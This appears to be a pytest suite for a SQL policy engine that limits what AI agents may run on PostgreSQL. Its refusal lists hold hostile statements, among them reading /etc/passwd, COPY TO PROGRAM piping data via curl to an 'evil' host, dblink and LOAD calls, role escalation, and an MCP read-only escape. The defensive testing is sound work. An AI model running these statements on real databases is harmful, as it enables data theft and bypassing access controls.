"""The statement policy engine on strings: what parse() finds and what judge() refuses.

The engine knows no protocol; the wire and HTTP tests drive it through a real server.
Here every refused kind of issue 23 is checked alone, hidden in a CTE, a subquery, a
multi-statement string or a function call, next to the statements that must pass.
"""

from __future__ import annotations

import subprocess
import sys
from collections.abc import Sequence
from dataclasses import dataclass, field

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sidecar.databases.statements import (
    KINDS,
    Statement,
    StatementError,
    StatementRules,
    parse,
    table_glob,
)


@dataclass
class Rule:
    agents: Sequence[str] = field(default_factory=list)
    tables: Sequence[str] = field(default_factory=list)
    statements: Sequence[str] = field(default_factory=list)


RULES = [
    Rule(["research-*"], ["public.orders", "customers"], ["select"]),
    Rule(["etl-bot"], ["staging.*"], ["select", "insert", "update", "delete", "copy"]),
    Rule(["admin"], ["*"], []),
]
rules = StatementRules.build(RULES, read_only=False, database="analytics")
guards_only = StatementRules.build(None, read_only=False, database="analytics")
read_only = StatementRules.build(None, read_only=True, database="analytics")


def refused(agent: str, sql: str, engine: StatementRules = rules) -> str:
    verdict = engine.judge(agent, parse(sql))
    assert verdict is not None, f"{sql!r} was allowed for {agent}"
    assert verdict.reason == "forbidden"
    return f"{verdict.sqlstate} {verdict.message}"


def allowed(agent: str, sql: str, engine: StatementRules = rules) -> None:
    verdict = engine.judge(agent, parse(sql))
    assert verdict is None, f"{sql!r} was refused for {agent}: {verdict.message}"


# -- what parse() finds -----------------------------------------------------------------


@pytest.mark.parametrize(
    ("sql", "reads", "writes"),
    [
        ("SELECT * FROM orders", {"public.orders"}, set()),
        ("select * from PUBLIC.Orders", {"public.orders"}, set()),
        ('SELECT * FROM "public"."Orders"', {'public."Orders"'}, set()),
        ("SELECT * FROM analytics.staging.events", {"staging.events"}, set()),
        (
            "SELECT * FROM a JOIN s.b ON true LEFT JOIN c USING (id)",
            {"public.a", "s.b", "public.c"},
            set(),
        ),
        (
            "SELECT (SELECT max(x) FROM a) FROM b WHERE EXISTS (SELECT 1 FROM c)",
            {"public.a", "public.b", "public.c"},
            set(),
        ),
        ("SELECT * FROM t, LATERAL (SELECT * FROM u) s", {"public.t", "public.u"}, set()),
        ("SELECT 1 UNION SELECT a FROM t EXCEPT SELECT b FROM u", {"public.t", "public.u"}, set()),
        ("WITH c AS (SELECT * FROM orders) SELECT * FROM c", {"public.orders"}, set()),
        # A non-recursive CTE does not see itself: the inner `orders` is the table.
        ("WITH orders AS (SELECT * FROM secret) SELECT * FROM orders", {"public.secret"}, set()),
        ("WITH secret AS (SELECT * FROM secret) SELECT * FROM secret", {"public.secret"}, set()),
        ("WITH a AS (SELECT 1), b AS (SELECT * FROM a) SELECT * FROM b", set(), set()),
        ("WITH RECURSIVE r AS (SELECT 1 UNION SELECT * FROM r) SELECT * FROM r", set(), set()),
        # A CTE's name does not leak out of the subquery that defines it.
        ("SELECT * FROM (WITH x AS (SELECT 1) SELECT * FROM x) s, x", {"public.x"}, set()),
        ("SELECT * FROM s.c WHERE false", {"s.c"}, set()),
        ("WITH c AS (SELECT 1) SELECT * FROM public.c", {"public.c"}, set()),
        ("INSERT INTO t (a) SELECT b FROM u", {"public.u"}, {"public.t"}),
        ("WITH t AS (SELECT 1) INSERT INTO t VALUES (1)", set(), {"public.t"}),
        ("UPDATE t SET a = u.b FROM u WHERE t.id = u.id", {"public.u"}, {"public.t"}),
        ("DELETE FROM t USING u WHERE t.a = u.a", {"public.u"}, {"public.t"}),
        (
            "MERGE INTO t USING s.src ON t.id = src.id WHEN MATCHED THEN UPDATE SET a = 1",
            {"s.src"},
            {"public.t"},
        ),
        ("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", set(), {"public.t"}),
        ("SELECT * INTO n FROM t", {"public.t"}, {"public.n"}),
        ("CREATE TABLE x AS SELECT * FROM t", {"public.t"}, {"public.x"}),
        ("CREATE VIEW v AS SELECT * FROM t", {"public.t"}, {"public.v"}),
        ("DROP TABLE a, s.b", set(), {"public.a", "s.b"}),
        ("TRUNCATE a", set(), {"public.a"}),
        ("ALTER TABLE t ADD COLUMN a int", set(), {"public.t"}),
        ("COPY t FROM STDIN", set(), {"public.t"}),
        ("COPY t TO STDOUT", {"public.t"}, set()),
        ("COPY (SELECT * FROM t) TO STDOUT", {"public.t"}, set()),
        ("EXPLAIN ANALYZE DELETE FROM t", set(), {"public.t"}),
        ("PREPARE p AS SELECT * FROM t WHERE a = $1", {"public.t"}, set()),
        ("DECLARE c CURSOR FOR SELECT * FROM t", {"public.t"}, set()),
        ("SELECT * FROM pg_class", {"pg_catalog.pg_class", "public.pg_class"}, set()),
        ("SELECT 1", set(), set()),
    ],
)
def test_tables_read_and_written(sql: str, reads: set[str], writes: set[str]) -> None:
    statement = parse(sql)
    assert statement.reads == reads
    assert statement.writes == writes


@pytest.mark.parametrize(
    ("sql", "kinds"),
    [
        ("SELECT 1", {"select"}),
        ("INSERT INTO t VALUES (1)", {"insert"}),
        ("UPDATE t SET a = 1", {"update"}),
        ("DELETE FROM t", {"delete"}),
        ("MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE", {"merge"}),
        ("CREATE TABLE t (a int)", {"ddl"}),
        ("DROP SCHEMA s CASCADE", {"ddl"}),
        ("COPY t TO STDOUT", {"copy"}),
        ("CALL p(1)", {"call"}),
        ("SET TIME ZONE 'UTC'", {"set"}),
        ("RESET timezone", {"reset"}),
        ("BEGIN", {"transaction"}),
        ("SHOW search_path", {"show"}),
        ("EXPLAIN SELECT 1", {"explain", "select"}),
        ("PREPARE p AS DELETE FROM t", {"prepare", "delete"}),
        ("EXECUTE p(1)", {"execute"}),
        ("LISTEN x", {"listen"}),
        ("LOCK TABLE t", {"lock"}),
        ("VACUUM t", {"vacuum"}),
        ("GRANT SELECT ON t TO r", {"grant"}),
        ("CHECKPOINT", {"other"}),
        ("SELECT 1; COMMIT; DROP TABLE t", {"select", "transaction", "ddl"}),
        ("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", {"select", "delete"}),
        ("SELECT * INTO n FROM t", {"select", "ddl"}),
    ],
)
def test_kinds(sql: str, kinds: set[str]) -> None:
    assert parse(sql).kinds == kinds
    assert kinds <= set(KINDS)


def test_what_telemetry_reads() -> None:
    statement = parse(
        "SELECT name FROM public.customers WHERE email = 'ann@example.com' "
        "AND id IN (1, 2, 3) AND score > -1.5 AND tag = $1 -- ann's row\n; SELECT 2"
    )
    assert statement.normalized == (
        "SELECT name FROM public.customers WHERE email = ? AND id IN (?, ?, ?) "
        "AND score > -? AND tag = $1\n; SELECT ?"
    )
    assert statement.operation == "SELECT"
    assert statement.collection == "public.customers"
    assert statement.count == 2
    assert parse("WITH c AS (SELECT 1) DELETE FROM t").operation == "DELETE"
    assert parse("create table t (a int)").operation == "CREATE"
    assert parse("").count == 0


@pytest.mark.parametrize(
    "literal", ["'x'", "E'x\\'y'", "$$x$$", "$tag$x$tag$", "U&'x'", "B'101'", "X'1F'", "1e5"]
)
def test_every_literal_form_is_hidden(literal: str) -> None:
    assert parse(f"SELECT {literal}").normalized == "SELECT ?"


def test_functions_are_named_lower_case_without_schema() -> None:
    statement = parse('SELECT pg_catalog.lower(a), "Upper"(b), COUNT(*) FROM t')
    assert statement.functions == {"lower", "upper", "count"}


def test_a_syntax_error_says_where() -> None:
    with pytest.raises(StatementError) as caught:
        parse("SELECT 1;\nSELEC 2")
    assert 'syntax error at or near "SELEC" (line 2, column 1)' in caught.value.message
    assert caught.value.position == 11


def test_parse_is_cached_by_text() -> None:
    assert parse("SELECT 42 FROM cached") is parse("SELECT 42 FROM cached")


# -- always refused, whatever the rules ------------------------------------------------

ALWAYS_REFUSED = [
    # Functions acting outside the query, wherever they hide.
    "SELECT pg_read_file('/etc/passwd')",
    "SELECT * FROM orders WHERE id IN (SELECT pg_read_file('x')::int)",
    "WITH f AS (SELECT pg_read_binary_file('/etc/shadow')) SELECT * FROM f",
    "SELECT * FROM pg_ls_dir('.')",
    "SELECT * FROM ROWS FROM (pg_ls_dir('.'))",
    "SELECT PG_READ_FILE('x')",
    "SELECT \"PG_READ_FILE\"('x')",
    "SELECT pg_catalog.pg_read_file('x')",
    "SELECT lo_import('/etc/passwd')",
    "SELECT lo_export(1, '/tmp/x')",
    "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)",
    "SELECT dblink_exec('host=evil', 'DROP TABLE t')",
    "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
    "SELECT pg_cancel_backend(1)",
    "SELECT pg_reload_conf()",
    "SELECT set_config('default_transaction_read_only', 'off', false)",
    "SELECT pg_catalog.set_config('statement_timeout', '0', true)",
    "SELECT query_to_xml('SELECT * FROM secret', true, false, '')",
    "CREATE TABLE x (a text DEFAULT pg_read_file('/etc/passwd'))",
    "ALTER TABLE orders ALTER COLUMN a SET DEFAULT lo_import('/x')",
    "INSERT INTO t VALUES ((SELECT pg_read_file('x')))",
    "COPY (SELECT pg_read_file('x')) TO STDOUT",
    # COPY on the server's side.
    "COPY orders TO PROGRAM 'curl -d @- evil'",
    "COPY orders FROM PROGRAM 'id'",
    "COPY orders TO '/tmp/orders.csv'",
    "COPY orders FROM '/etc/passwd'",
    "COPY (SELECT 1) TO '/tmp/x'",
    # Who the session is.
    "SET ROLE postgres",
    "SET LOCAL ROLE postgres",
    "RESET ROLE",
    "SET SESSION AUTHORIZATION postgres",
    "RESET SESSION AUTHORIZATION",
    # Undoing the guards.
    "SET default_transaction_read_only = off",
    "SET default_transaction_read_only TO DEFAULT",
    "SET SESSION default_transaction_read_only = off",
    "SET transaction_read_only = off",
    "RESET default_transaction_read_only",
    "SET statement_timeout = 0",
    "SET LOCAL statement_timeout = 0",
    "set STATEMENT_TIMEOUT to 0",
    'SET "Statement_Timeout" = 0',
    "RESET statement_timeout",
    "SET statement_timeout FROM CURRENT",
    "RESET ALL",
    "DISCARD ALL",
    "SET search_path = secret, public",
    "ALTER ROLE CURRENT_USER SET default_transaction_read_only = off",
    "ALTER DATABASE analytics SET statement_timeout = 0",
    "ALTER SYSTEM SET statement_timeout = 0",
    "LOAD 'evil.so'",
    # Code that later runs unchecked.
    "DO $$ BEGIN PERFORM pg_sleep(1); END $$",
    "do language plpgsql 'begin end'",
    "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'",
    "CREATE OR REPLACE PROCEDURE p() LANGUAGE sql AS $$ DELETE FROM orders $$",
    "ALTER FUNCTION f() SECURITY DEFINER",
    "CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()",
    "CREATE RULE r AS ON SELECT TO t DO INSTEAD SELECT * FROM secret",
    "CREATE EXTENSION dblink",
    "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw",
    "CREATE ROLE r SUPERUSER",
    # The catalog is never written.
    "UPDATE pg_settings SET setting = 'off' WHERE name = 'default_transaction_read_only'",
    "DELETE FROM pg_catalog.pg_class",
    # Hidden in multi-statement strings, EXPLAIN and PREPARE.
    "SELECT 1; SET ROLE postgres",
    "SELECT * FROM orders; SELECT pg_read_file('x'); SELECT 2",
    "EXPLAIN ANALYZE SELECT pg_read_file('x')",
    "PREPARE p AS SELECT lo_import('/etc/passwd')",
    "BEGIN; DO $$ BEGIN END $$; COMMIT",
]


@pytest.mark.parametrize("sql", ALWAYS_REFUSED)
@pytest.mark.parametrize("engine", [rules, guards_only, read_only], ids=["rules", "none", "ro"])
def test_always_refused(sql: str, engine: StatementRules) -> None:
    # Even the agent whose rule allows any statement on every table.
    assert refused("admin", sql, engine).startswith("42501 statement refused: ")


def test_a_guard_refusal_says_why() -> None:
    message = refused("admin", "SELECT 1 FROM orders WHERE pg_read_file('x') = ''")
    assert "pg_read_file()" in message and "refused for every agent" in message
    message = refused("admin", "COPY orders TO PROGRAM 'id'")
    assert "COPY ... FROM STDIN or COPY ... TO STDOUT" in message
    message = refused("admin", "SET statement_timeout = 0")
    assert "statement timeout" in message


# -- read_only --------------------------------------------------------------------------

READ_ONLY_REFUSED = [
    "INSERT INTO t VALUES (1)",
    "UPDATE t SET a = 1",
    "DELETE FROM t",
    "MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE",
    "CREATE TABLE t (a int)",
    "DROP TABLE t",
    "DROP SCHEMA s",
    "TRUNCATE t",
    "SELECT * INTO n FROM t",
    "COPY t FROM STDIN",
    "GRANT SELECT ON t TO public",
    "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
    "EXPLAIN ANALYZE UPDATE t SET a = 1",
    "PREPARE p AS INSERT INTO t VALUES ($1)",
    # The MCP Postgres server's escape: a COMMIT ends its read-only transaction.
    "SELECT 1; COMMIT; DROP TABLE t",
    "BEGIN READ WRITE",
    "START TRANSACTION READ WRITE",
    "START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ WRITE",
    "SET TRANSACTION READ WRITE",
    "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE",
]


@pytest.mark.parametrize("sql", READ_ONLY_REFUSED)
def test_read_only_refuses_writes(sql: str) -> None:
    message = refused("anyone", sql, read_only)
    assert message.startswith("25006 statement refused: database 'analytics' is read-only")


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT * FROM orders",
        "BEGIN READ ONLY",
        "BEGIN",
        "START TRANSACTION ISOLATION LEVEL REPEATABLE READ",
        "SET TRANSACTION READ ONLY",
        "COPY orders TO STDOUT",
        "EXPLAIN SELECT * FROM t",
        "SHOW transaction_read_only",
        "SELECT pg_sleep(0.01)",
        "SELECT 1; COMMIT; SELECT 2",
    ],
)
def test_read_only_lets_reads_through(sql: str) -> None:
    allowed("anyone", sql, read_only)


def test_read_write_is_only_a_guard_on_a_read_only_database() -> None:
    allowed("admin", "BEGIN READ WRITE", rules)
    allowed("anyone", "SET TRANSACTION READ WRITE", guards_only)


def test_read_only_says_what_writes() -> None:
    message = refused("anyone", "SELECT 1; UPDATE public.orders SET total = 0", read_only)
    assert message.endswith("this statement writes public.orders (UPDATE)")


# -- allow rules ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("agent", "sql"),
    [
        ("research-bot", "SELECT * FROM orders"),
        ("research-bot", "SELECT * FROM PUBLIC.ORDERS o JOIN customers c ON c.id = o.cid"),
        ("research-bot", "WITH big AS (SELECT * FROM orders WHERE total > 100) SELECT * FROM big"),
        ("research-bot", "SELECT * FROM customers WHERE id IN (SELECT cid FROM public.orders)"),
        ("research-bot", "SELECT 1"),
        ("research-bot", "SELECT now(), version(), current_schema()"),
        ("research-bot", "SELECT pg_sleep(0.1)"),
        ("research-bot", "EXPLAIN SELECT * FROM orders"),
        ("research-bot", "BEGIN; SELECT * FROM orders; COMMIT"),
        ("research-bot", "SHOW standard_conforming_strings"),
        ("research-bot", "SET TIME ZONE 'UTC'"),
        ("research-bot", "SET application_name = 'x'"),
        ("research-bot", "PREPARE q AS SELECT * FROM orders WHERE id = $1"),
        ("research-bot", "EXECUTE q(1)"),
        ("research-bot", "DEALLOCATE ALL"),
        ("research-bot", "DECLARE c CURSOR FOR SELECT * FROM orders"),
        # Schema reflection (SQLAlchemy, LangChain's SQLDatabase, psql's \d).
        (
            "research-bot",
            "SELECT c.relname FROM pg_catalog.pg_class c "
            "JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace",
        ),
        ("research-bot", "SELECT * FROM information_schema.columns WHERE table_name = 'orders'"),
        ("etl-bot", "INSERT INTO staging.events SELECT * FROM staging.raw"),
        ("etl-bot", "UPDATE staging.events SET a = r.a FROM staging.raw r WHERE r.id = events.id"),
        ("etl-bot", "DELETE FROM staging.events USING staging.raw WHERE raw.id = events.id"),
        ("etl-bot", "COPY staging.events FROM STDIN"),
        ("etl-bot", "COPY staging.events TO STDOUT"),
        ("admin", "CREATE TABLE anything (a int); DROP TABLE anything"),
        ("admin", "DROP SCHEMA s CASCADE"),
        ("admin", "SELECT * FROM pg_stat_activity"),
    ],
)
def test_allowed(agent: str, sql: str) -> None:
    allowed(agent, sql)


@pytest.mark.parametrize(
    ("agent", "sql", "says"),
    [
        ("research-bot", "UPDATE orders SET total = 0", "writes public.orders (UPDATE)"),
        ("research-bot", "SELECT * FROM secrets", "reads public.secrets (SELECT)"),
        ("research-bot", 'SELECT * FROM "public"."Orders"', 'reads public."Orders" (SELECT)'),
        ("research-bot", "SELECT * FROM orders, staging.raw", "reads staging.raw (SELECT)"),
        (
            "research-bot",
            "WITH c AS (SELECT * FROM secrets) SELECT * FROM c",
            "reads public.secrets",
        ),
        (
            "research-bot",
            "WITH secrets AS (SELECT * FROM secrets) SELECT * FROM secrets",
            "reads public.secrets",
        ),
        (
            "research-bot",
            "WITH orders AS (SELECT * FROM secrets) SELECT * FROM orders",
            "reads public.secrets",
        ),
        (
            "research-bot",
            "SELECT * FROM orders WHERE id IN (SELECT id FROM secrets)",
            "reads public.secrets",
        ),
        (
            "research-bot",
            "SELECT (SELECT s FROM secrets LIMIT 1) FROM orders",
            "reads public.secrets",
        ),
        (
            "research-bot",
            "SELECT * FROM orders o, LATERAL (SELECT * FROM secrets) s",
            "reads public.secrets",
        ),
        (
            "research-bot",
            "SELECT 1 FROM orders UNION SELECT 2 FROM secrets",
            "reads public.secrets",
        ),
        (
            "research-bot",
            "WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d",
            "writes public.orders (DELETE)",
        ),
        ("research-bot", "SELECT 1; COMMIT; DROP TABLE t", "writes public.t (DDL)"),
        (
            "research-bot",
            "SELECT * FROM orders; DELETE FROM orders",
            "writes public.orders (DELETE)",
        ),
        ("research-bot", "EXPLAIN ANALYZE DELETE FROM orders", "writes public.orders (DELETE)"),
        ("research-bot", "PREPARE p AS DELETE FROM orders", "writes public.orders (DELETE)"),
        ("research-bot", "SELECT * INTO copy_of FROM orders", "writes public.copy_of (DDL)"),
        ("research-bot", "COPY orders TO STDOUT", "reads public.orders (COPY)"),
        ("research-bot", "CALL refresh()", "runs CALL"),
        ("research-bot", "LISTEN events", "runs LISTEN"),
        # The catalog views that show other sessions or column values need a rule.
        ("research-bot", "SELECT query FROM pg_stat_activity", "reads pg_catalog.pg_stat_activity"),
        ("research-bot", "SELECT * FROM pg_catalog.pg_stats", "reads pg_catalog.pg_stats"),
        (
            "etl-bot",
            "INSERT INTO staging.events SELECT * FROM public.orders",
            "reads public.orders",
        ),
        ("etl-bot", "TRUNCATE staging.events", "writes staging.events (DDL)"),
        ("etl-bot", "SELECT * FROM staging.a.b", "reads a.b"),
        ("etl-bot", "DROP SCHEMA staging CASCADE", "needs a rule with ddl on every table"),
    ],
)
def test_refused_by_rules(agent: str, sql: str, says: str) -> None:
    message = refused(agent, sql)
    assert message.startswith(
        "42501 statement refused by the allow rules of database 'analytics': "
        f"agent '{agent}' may run "
    )
    assert says in message


def test_the_message_says_what_the_agent_may_do() -> None:
    verdict = rules.judge("research-bot", parse("UPDATE public.orders SET total = 0"))
    assert verdict is not None
    assert verdict.message == (
        "statement refused by the allow rules of database 'analytics': agent 'research-bot' "
        "may run SELECT on public.orders, public.customers; "
        "this statement writes public.orders (UPDATE)"
    )
    assert verdict.hint == "allowed here: SELECT on public.orders, public.customers"
    assert rules.allowed_summary("etl-bot") == ("SELECT, INSERT, UPDATE, DELETE, COPY on staging.*")


def test_an_agent_no_rule_names_may_run_nothing() -> None:
    message = refused("stranger", "SELECT 1")
    assert "name no rule for agent 'stranger'" in message
    refused("stranger", "BEGIN")
    allowed("stranger", "SELECT 1", guards_only)


def test_an_empty_rule_list_allows_nothing_and_none_allows_all_the_guards_do() -> None:
    nothing = StatementRules.build([], read_only=False, database="analytics")
    refused("admin", "SELECT 1", nothing)
    allowed("anyone", "DROP TABLE orders; CREATE TABLE x (a int)", guards_only)


def test_tables_may_be_covered_by_different_rules() -> None:
    engine = StatementRules.build(
        [Rule(["a"], ["orders"], ["select"]), Rule(["a"], ["customers"], ["select"])],
        read_only=False,
        database="d",
    )
    allowed("a", "SELECT * FROM orders JOIN customers ON true", engine)


def test_agent_globs_are_the_http_rules() -> None:
    engine = StatementRules.build(
        [Rule(["research-*", "ops@team:1"], ["*"], ["select"])], read_only=False, database="d"
    )
    allowed("research-", "SELECT 1", engine)
    allowed("research-bot.v2", "SELECT 1", engine)
    allowed("ops@team:1", "SELECT 1", engine)
    refused("xresearch-bot", "SELECT 1", engine)
    refused("research", "SELECT 1", engine)


@pytest.mark.parametrize(
    ("glob", "parts"),
    [
        ("orders", ("public", "orders")),
        ("Public.Orders", ("public", "orders")),
        ('public."Orders"', ("public", "Orders")),
        ('"a.b"."c""d"', ("a.b", 'c"d')),
        ("staging.*", ("staging", "*")),
        ("*", ("*", "*")),
    ],
)
def test_table_globs_read_identifiers_as_postgresql_does(glob: str, parts: tuple[str, str]) -> None:
    assert table_glob(glob) == parts


@pytest.mark.parametrize("glob", ["a.b.c", "a..b", "", '"open', "a b"])
def test_a_table_glob_that_cannot_be_meant_is_refused(glob: str) -> None:
    with pytest.raises(ValueError, match="table"):
        table_glob(glob)


def test_a_quoted_rule_table_matches_only_that_name() -> None:
    engine = StatementRules.build(
        [Rule([], ['public."Orders"'], ["select"])], read_only=False, database="d"
    )
    allowed("x", 'SELECT * FROM "Orders"', engine)
    refused("x", "SELECT * FROM Orders", engine)


def test_a_star_does_not_cross_from_schema_to_table() -> None:
    engine = StatementRules.build(
        [Rule([], ["public.*"], ["select"])], read_only=False, database="d"
    )
    allowed("x", "SELECT * FROM orders", engine)
    refused("x", 'SELECT * FROM "public.evil".orders', engine)


# -- properties -------------------------------------------------------------------------


@settings(max_examples=60, deadline=None)
@given(st.text(max_size=80))
def test_any_text_parses_or_raises_statement_error(text: str) -> None:
    try:
        statement = parse(text)
    except StatementError as exc:
        assert exc.message
    else:
        assert isinstance(statement, Statement)
        rules.judge("research-bot", statement)


@settings(max_examples=40, deadline=None)
@given(
    st.lists(
        st.text("abcdefghijklmnopqrstuvwxyz@. 0123456789", min_size=3, max_size=12),
        min_size=1,
        max_size=4,
    ),
    st.lists(st.integers(min_value=100_000), min_size=1, max_size=4),
)
def test_no_literal_reaches_telemetry(words: list[str], numbers: list[int]) -> None:
    strings = ", ".join("'" + w + "'" for w in words)
    ints = ", ".join(map(str, numbers))
    normalized = parse(f"SELECT * FROM t WHERE a IN ({strings}) AND b IN ({ints})").normalized
    assert all(w not in normalized for w in words if w.strip())
    assert all(str(n) not in normalized for n in numbers)


@settings(max_examples=40, deadline=None)
@given(
    st.sampled_from(["secrets", "staging.raw", '"Orders"', "pg_stat_activity"]), st.integers(0, 3)
)
def test_a_forbidden_table_is_refused_however_deep(table: str, depth: int) -> None:
    query = f"SELECT * FROM {table}"
    for level in range(depth):
        query = (
            f"SELECT * FROM orders WHERE id IN ({query})"
            if level % 2
            else f"WITH c{level} AS ({query}) SELECT * FROM c{level}"
        )
    refused("research-bot", query)


def test_reset_all_runs_only_where_the_connector_restores_the_guards() -> None:
    # asyncpg's pool sends this on every release.
    reset = "SELECT pg_advisory_unlock_all();\nCLOSE ALL;\nUNLISTEN *;\nRESET ALL;"
    assert "RESET ALL would undo the guards" in refused("admin", reset)
    restoring = StatementRules.build(RULES, read_only=True, database="a", restores_guards=True)
    allowed("research-bot", reset, restoring)
    allowed("research-bot", "DISCARD ALL", restoring)
    refused("research-bot", "RESET statement_timeout", restoring)
    refused("stranger", "RESET ALL", restoring)


def test_upsert_needs_update_too() -> None:
    insert_only = StatementRules.build([Rule([], ["t"], ["insert"])], read_only=False, database="d")
    allowed("x", "INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING", insert_only)
    message = refused(
        "x", "INSERT INTO t VALUES (1) ON CONFLICT (a) DO UPDATE SET b = 2", insert_only
    )
    assert "writes public.t (UPDATE)" in message


def test_importing_the_engine_does_not_load_the_parser() -> None:
    code = (
        "import sys, sidecar.databases.statements as s; assert 'pglast' not in sys.modules; "
        "s.parse('SELECT 1'); assert 'pglast' in sys.modules"
    )
    subprocess.run([sys.executable, "-c", code], check=True, timeout=60)


@pytest.mark.parametrize(
    "sql",
    [
        # The server would read these bytes differently from the sidecar.
        "SET client_encoding = 'SJIS'",
        "SET NAMES 'GBK'",
        "SET standard_conforming_strings = off",
        # Other sessions' statements.
        "SELECT pg_stat_get_backend_activity(1)",
        "SELECT * FROM pg_hba_file_rules()",
    ],
)
def test_what_would_let_the_server_read_another_statement_is_refused(sql: str) -> None:
    refused("admin", sql)


def test_utf8_client_encoding_is_fine() -> None:
    allowed("research-bot", "SET client_encoding = 'UTF8'")
    allowed("research-bot", "SET NAMES 'utf-8'")


def test_a_nul_cannot_hide_a_statement() -> None:
    # libpg_query stops at a NUL; what follows would go unjudged.
    with pytest.raises(StatementError, match="NUL"):
        parse("SELECT 1\x00; DROP TABLE orders")


def test_large_objects_need_a_rule_naming_them() -> None:
    message = refused("research-bot", "SELECT lo_get(16401)")
    assert "reads pg_catalog.pg_largeobject" in message
    allowed("admin", "SELECT lo_get(16401)")


def test_moving_or_renaming_a_table_writes_its_new_name() -> None:
    staging_ddl = StatementRules.build(
        [Rule([], ["staging.*"], ["ddl"])], read_only=False, database="d"
    )
    allowed("x", "ALTER TABLE staging.a RENAME TO b", staging_ddl)
    allowed("x", "ALTER TABLE staging.a RENAME COLUMN c TO d", staging_ddl)
    allowed("x", "COMMENT ON TABLE staging.a IS 'raw events'", staging_ddl)
    assert "writes public.a (DDL)" in refused(
        "x", "ALTER TABLE staging.a SET SCHEMA public", staging_ddl
    )
    assert "writes public.a (DDL)" in refused("x", "ALTER TABLE a RENAME TO b", staging_ddl)


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT 1" + " + 1" * 2000,
        "SELECT * FROM " + "(SELECT * FROM " * 400 + "secrets" + ") s" * 400,
    ],
)
def test_what_nests_too_deeply_to_check_is_refused_not_a_crash(sql: str) -> None:
    with pytest.raises(StatementError) as caught:
        parse(sql)
    assert caught.value.sqlstate in ("54001", "42601")
    assert caught.value.message.startswith(("statement refused: it nests too deeply", "stack"))
